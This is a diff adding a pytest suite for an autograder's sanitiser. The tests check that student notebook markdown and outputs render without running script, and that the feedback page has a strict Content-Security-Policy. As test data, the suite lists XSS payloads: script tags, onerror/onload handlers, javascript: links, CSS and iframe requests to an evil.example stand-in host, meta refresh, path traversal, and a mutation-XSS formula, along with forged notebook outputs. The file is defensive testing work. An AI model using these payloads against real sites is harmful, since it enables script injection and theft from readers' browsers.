@@ -1,0 +1,111 @@
+"""What a student wrote or printed is shown, and nothing of it runs or fetches anything in a reader's browser."""
+
+import nbformat
+import pytest
+
+from autograder.outputs import safe_outputs
+from autograder.pages import FeedbackExporter, safe_markdown
+
+PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+HARMFUL = {
+    "script": "<script>steal()</script>text",
+    "event": '<img src="figures/a.svg" onerror="steal()">text',
+    "link": "[text](javascript:steal())",
+    "link in HTML": '<a href="javascript:steal()">text</a>',
+    "link to data": "[text](data:text/html;base64,c3RlYWwoKQ==)",
+    "frame": '<iframe src="https://evil.example/steal()"></iframe>text',
+    "picture from elsewhere": "text ![steal()](https://evil.example/steal().png)",
+    "picture of the machine": "text ![a](/etc/steal()) ![a](../../steal()) ![a](figures/../../steal())",
+    "style": '<b style="background: url(https://evil.example/steal())">text</b>',
+    "style sheet": "text <style>@import 'https://evil.example/steal()'</style>",
+    "form": '<form action="https://evil.example/steal()"><input name="steal()"></form>text',
+    "drawing": "text <svg onload=steal()><script>steal()</script></svg>",
+    "formula": r"text <math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></math>",
+    "formula with a link": r"text $\href{javascript:steal()}{x}$",
+    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example/steal()">text',
+    "base": '<base href="https://evil.example/steal()/">text',
+    "object": '<object data="https://evil.example/steal()"></object>text',
+}
+
+
+@pytest.mark.parametrize("source", HARMFUL.values(), ids=HARMFUL)
+def test_markdown_keeps_its_text_and_loses_what_harms(source: str) -> None:
+    html = safe_markdown(source)
+    assert "text" in html
+    assert "evil.example" not in html.replace("alt=", "")
+    for word in ("steal()", "javascript:", "onerror", "onload", "<script", "<iframe", "<style", "<form", "<svg"):
+        assert word not in html.replace('alt="steal()"', "").replace("<code>\\href{javascript:steal()}{x}</code>", "")
+
+
+KEPT = {
+    "formatting": ("**a** and `b < c`", "<strong>a</strong> and <code>b &lt; c</code>"),
+    "inline formula": ("$x^2$", "<msup><mi>x</mi><mn>2</mn></msup>"),
+    "formula": (r"$$\frac{a}{b}$$", "<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>"),
+    "broken formula": (r"$\frac{a$", "<mi>a</mi>"),
+    "picture of the notebook": ("![a block](figures/a.svg)", '<img src="figures/a.svg" alt="a block">'),
+    "picture in the page": (f"![dot](data:image/png;base64,{PIXEL})", PIXEL),
+    "table": ("|a|b|\n|---|---|\n|1|2|", "<th>a</th>"),
+    "folded hint": ("<details><summary>Hint</summary>look</details>", "<summary>Hint</summary>"),
+    "link": ("[paper](https://arxiv.org/abs/1512.03385)", 'href="https://arxiv.org/abs/1512.03385"'),
+    "code": ("```python\nx < y\n```", "&lt;"),
+}
+
+
+@pytest.mark.parametrize(("source", "part"), KEPT.values(), ids=KEPT)
+def test_markdown_keeps_its_meaning(source: str, part: str) -> None:
+    assert part in safe_markdown(source)
+
+
+OUTPUTS = {
+    "text": ({"output_type": "stream", "name": "stdout", "text": "a\x00b\ud800"}, "a\ufffdb\ufffd"),
+    "colour": ({"output_type": "stream", "name": "stderr", "text": "\x1b[31mred"}, "\x1b[31mred"),
+    "result": ({"output_type": "execute_result", "data": {"text/plain": "42"}}, "42"),
+    "picture": ({"output_type": "display_data", "data": {"image/png": PIXEL + "\n"}}, PIXEL),
+    "error": ({"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["line"]}, "line"),
+}
+
+
+@pytest.mark.parametrize(("output", "part"), OUTPUTS.values(), ids=OUTPUTS)
+def test_output_is_kept(output: dict, part: str) -> None:
+    kept = safe_outputs([output])
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", outputs=kept)])
+    nbformat.validate(notebook)
+    nbformat.writes(notebook).encode()
+    assert part in _texts(kept[0])
+
+
+def _texts(value: object) -> list[str]:
+    if isinstance(value, dict):
+        return [text for item in value.values() for text in _texts(item)]
+    return [text for item in value for text in _texts(item)] if isinstance(value, list) else [str(value)]
+
+
+FORGED = {
+    "HTML": {"output_type": "display_data", "data": {"text/html": "steal()", "application/javascript": "steal()"}},
+    "SVG": {"output_type": "display_data", "data": {"image/svg+xml": "<svg onload=steal()>"}},
+    "not a picture": {"output_type": "display_data", "data": {"image/png": '"><script>steal()</script>'}},
+    "another picture": {"output_type": "display_data", "data": {"image/png": "c3RlYWwoKQ=="}},
+    "size": {"output_type": "display_data", "data": {}, "metadata": {"image/png": {"width": "steal()"}}},
+    "stream's name": {"output_type": "stream", "name": "steal()", "text": "a"},
+    "kind": {"output_type": "steal()"},
+    "count": {"output_type": "execute_result", "data": {}, "execution_count": "steal()"},
+    "nothing": None,
+    "text": "steal()",
+    "list": ["steal()"],
+    "types": {"output_type": "error", "ename": ["steal()"], "evalue": 3, "traceback": "steal()"},
+}
+
+
+@pytest.mark.parametrize("output", FORGED.values(), ids=FORGED)
+def test_forged_output_is_not_shown(output: object) -> None:
+    kept = safe_outputs([output])
+    assert "steal()" not in str(kept) and "c3RlYWwoKQ" not in str(kept)
+    nbformat.validate(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", outputs=kept)]))
+
+
+def test_feedback_page_forbids_everything_but_text_and_pictures() -> None:
+    cells = [nbformat.v4.new_code_cell("'</pre><script>steal()</script>'"), nbformat.v4.new_markdown_cell("$x$")]
+    page, _ = FeedbackExporter().from_notebook_node(nbformat.v4.new_notebook(cells=cells))
+    assert page.index("Content-Security-Policy") < page.index("<title>")
+    assert "default-src 'none'" in page and "script-src" not in page
+    assert "<script" not in page
